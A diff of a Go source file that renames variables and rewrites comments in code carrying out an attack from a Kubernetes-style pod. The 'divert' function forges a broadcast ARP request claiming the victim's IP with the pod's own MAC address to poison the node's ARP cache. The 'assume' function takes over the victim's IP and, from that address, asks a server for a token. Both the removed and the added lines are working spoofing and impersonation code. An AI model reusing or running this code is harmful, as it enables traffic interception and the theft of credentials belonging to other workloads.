@@ -15,13 +15,13 @@ import (
 
 const interfaceName = "eth0"
 
-// networkOrder is a number of two bytes as the kernel takes it.
+// networkOrder is a two-byte number in network byte order, as the kernel expects it.
 func networkOrder(n uint16) uint16 {
 	return binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, n))
 }
 
-// divert lets the node send to this pod what is for the victim: who asks by ARP
-// tells its own addresses with the question, RFC 826.
+// divert makes the node send packets for the victim to this pod: an ARP request
+// contains the sender's addresses, and the receiver caches them (RFC 826).
 func divert(victim netip.Addr) error {
 	link, err := netlink.LinkByName(interfaceName)
 	if err != nil {
@@ -36,21 +36,21 @@ func divert(victim netip.Addr) error {
 		return err
 	}
 	defer unix.Close(socket)
-	own, asked := link.Attrs().HardwareAddr, gateway.As4()
-	from := victim.As4()
-	question := []byte{0, 1, 8, 0, 6, 4, 0, 1}
-	question = append(append(question, own...), from[:]...)
-	question = append(append(question, make([]byte, 6)...), asked[:]...)
-	everybody := unix.SockaddrLinklayer{Protocol: networkOrder(unix.ETH_P_ARP), Ifindex: link.Attrs().Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
-	if err := unix.Sendto(socket, question, 0, &everybody); err != nil {
+	own, target := link.Attrs().HardwareAddr, gateway.As4()
+	sender := victim.As4()
+	request := []byte{0, 1, 8, 0, 6, 4, 0, 1}
+	request = append(append(request, own...), sender[:]...)
+	request = append(append(request, make([]byte, 6)...), target[:]...)
+	broadcast := unix.SockaddrLinklayer{Protocol: networkOrder(unix.ETH_P_ARP), Ifindex: link.Attrs().Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
+	if err := unix.Sendto(socket, request, 0, &broadcast); err != nil {
 		return err
 	}
-	// The answer says that the question was read.
+	// The reply shows that the request was processed.
 	if err := unix.SetsockoptTimeval(socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1}); err != nil {
 		return err
 	}
 	answer := make([]byte, 1500)
-	for end := time.Now().Add(patience); time.Now().Before(end); {
+	for end := time.Now().Add(timeout); time.Now().Before(end); {
 		n, _, err := unix.Recvfrom(socket, answer, 0)
 		if err == nil && n >= 28 && answer[7] == 2 && netip.AddrFrom4([4]byte(answer[14:18])) == gateway {
 			return nil
@@ -72,7 +72,7 @@ func gatewayOf(link netlink.Link) (netip.Addr, error) {
 	return netip.Addr{}, errors.New("no gateway")
 }
 
-// assume takes the address for its own, which takes CAP_NET_ADMIN.
+// assume adds the address to its own interface, which needs CAP_NET_ADMIN.
 func assume(victim netip.Addr) (string, error) {
 	link, err := netlink.LinkByName(interfaceName)
 	if err != nil {
@@ -82,7 +82,7 @@ func assume(victim netip.Addr) (string, error) {
 	if err := netlink.AddrAdd(link, address); err != nil {
 		return "", err
 	}
-	ctx, cancel := context.WithTimeout(context.Background(), patience)
+	ctx, cancel := context.WithTimeout(context.Background(), timeout)
 	defer cancel()
 	dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(victim, 0))}
 	conn, err := dialer.DialContext(ctx, "tcp", server.String())
@@ -90,10 +90,10 @@ func assume(victim netip.Addr) (string, error) {
 		return "", err
 	}
 	defer conn.Close()
-	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
+	if err := conn.SetDeadline(time.Now().Add(timeout)); err != nil {
 		return "", err
 	}
-	if _, err := io.WriteString(conn, request); err != nil {
+	if _, err := io.WriteString(conn, tokenRequest); err != nil {
 		return "", err
 	}
 	answer, err := io.ReadAll(io.LimitReader(conn, 1<<16))
